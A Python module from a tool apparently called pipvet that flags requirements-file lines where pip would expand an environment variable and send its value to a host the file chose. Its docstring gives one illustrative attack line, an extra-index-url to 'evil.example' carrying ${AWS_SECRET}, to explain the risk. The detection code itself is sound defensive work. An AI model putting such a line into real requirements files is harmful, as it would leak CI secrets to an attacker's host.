"""Which ``${NAME}`` references in a requirements file pip would send to a host the file chose.

pip fills in ``${NAME}`` from its environment on every line of a requirements file, includes
and option lines too. That is how a team keeps an index token out of the file
(``--extra-index-url https://${TOKEN}@pypi.acme.example/simple``), and how a pull request's
file can send a CI job's secret anywhere (``--extra-index-url https://evil.example/${AWS_SECRET}``):
pip asks that host for packages while it resolves, before pipvet has vetted anything.

So, in a file pipvet hands to pip, a line with a variable is accepted only when no value of it
can reach a host the file chose. The line is judged as characters, not as pip's tokens (pip
splits option lines shell-style, with quotes and backslashes, and accepts ``-fURL`` glued):
- a line that names no address (no ``://``, no ``\\\\host`` or ``//host``) sends nothing: the
  variable is a path, a version, or the whole of an option's value (``--index-url ${INDEX}``,
  the user's own setting);
- otherwise every variable must sit in the userinfo of a URL (``https://${TOKEN}@host/``)
  whose host a setting outside the files names (pip's configuration, ``PIP_*`` variables, the
  command line) or is one of the public hosts a credential may go to (PyPI, GitHub, GitLab,
  Bitbucket: their owners, not a repository's, see it).
Pure: text in, problems out.
"""

from __future__ import annotations

import re
from collections.abc import Collection, Iterable

from pipvet.inputs.requirements_model import RequirementsFile

__all__ = ["DEFAULT_HOSTS", "host_of", "unsafe_variables"]

# Where pip goes with no configuration, and the code hosts VCS requirements name
# (git+https://${GITHUB_TOKEN}@github.com/org/repo.git).
DEFAULT_HOSTS = frozenset(
    {"pypi.org", "files.pythonhosted.org", "github.com", "gitlab.com", "bitbucket.org"}
)

_VARIABLE = re.compile(r"\$\{[A-Z0-9_]+\}")  # what pip expands (its own pattern)
_URL = re.compile(r"^[A-Za-z][A-Za-z0-9+.-]*://([^/?#]*)(.*)$", re.DOTALL)
# Every URL of a line, wherever it starts (glued to an option, quoted, escaped): its
# authority runs to the first character that ends one.
_AUTHORITY = re.compile(r"[A-Za-z][A-Za-z0-9+.-]{0,31}://([^/?#\s\"'\\]*)")
_TOKEN_END = re.compile(r"[\s\"']")
# A network path on Windows (\\host\share, //host/share) is an address too.
_NETWORK_PATH = re.compile(r"(^|[\s=\"'])(\\\\|//)")


def host_of(url: str) -> str | None:
    """The lower-cased host of a ``scheme://`` URL (no userinfo, no port); None otherwise."""
    found = _URL.match(url.strip())
    if found is None:
        return None
    host = found.group(1).rpartition("@")[2]
    if host.startswith("["):  # an IPv6 literal keeps its colons
        return host.partition("]")[0].lstrip("[").lower() or None
    return host.partition(":")[0].lower() or None


def _problem(line: str, trusted: Collection[str]) -> str | None:
    """Why pip could send a variable of ``line`` to a host the file chose, else None."""
    spans = [m.span() for m in _VARIABLE.finditer(line)]
    if "://" not in line and not _NETWORK_PATH.search(line):
        return None  # no address at all: the values go nowhere
    allowed: list[tuple[int, int]] = []  # userinfo spans of URLs to trusted hosts
    for url in _AUTHORITY.finditer(line):
        authority = url.group(1)
        local = authority.lower() in ("", "localhost") or _VARIABLE.fullmatch(authority)
        if url.group().lower().endswith("file://" + authority.lower()) and local:
            # file:// names a local file: pip reads it and sends it nowhere. A named host
            # (file://server/share) is a network share on Windows: judged as any address.
            rest = _TOKEN_END.search(line, url.start(1))
            allowed.append((url.start(1), rest.start() if rest else len(line)))
            continue
        userinfo, at, host = authority.rpartition("@")
        if _VARIABLE.search(host):
            return "a variable chooses the host pip connects to"
        name = host_of("x://" + host)
        if at and name in trusted:
            start = url.start(1)
            allowed.append((start, start + len(userinfo)))
        elif at and _VARIABLE.search(userinfo):
            return (
                f"pip would send a variable's value to {name} as a credential, and no setting "
                "outside the requirements files names that host"
            )
    for begin, end in spans:
        if not any(a <= begin and end <= b for a, b in allowed):
            return "pip would send a variable's value as part of an address the file chose"
    return None


def unsafe_variables(parsed: RequirementsFile, trusted_hosts: Iterable[str]) -> tuple[str, ...]:
    """One message per line of ``parsed`` (a file pipvet hands to pip, with its includes)
    where pip would send the value of a ``${NAME}`` to a host the file chose."""
    trusted = {h.lower() for h in trusted_hosts} | DEFAULT_HOSTS
    problems: list[str] = []
    lines = [(o.location, o.raw) for o in parsed.options]
    lines += [(e.location, e.raw) for e in parsed.entries]
    # A line with two options is two OptionLines with the same text: one problem.
    unique = dict.fromkeys(lines)
    for location, raw in sorted(unique, key=lambda item: (item[0].path, item[0].line or 0)):
        if _VARIABLE.search(raw) is None:
            continue
        why = _problem(raw, trusted)
        if why is not None:
            names = ", ".join(dict.fromkeys(_VARIABLE.findall(raw)))
            problems.append(f"{location}: '{raw.strip()}': {why} ({names})")
    return tuple(problems)
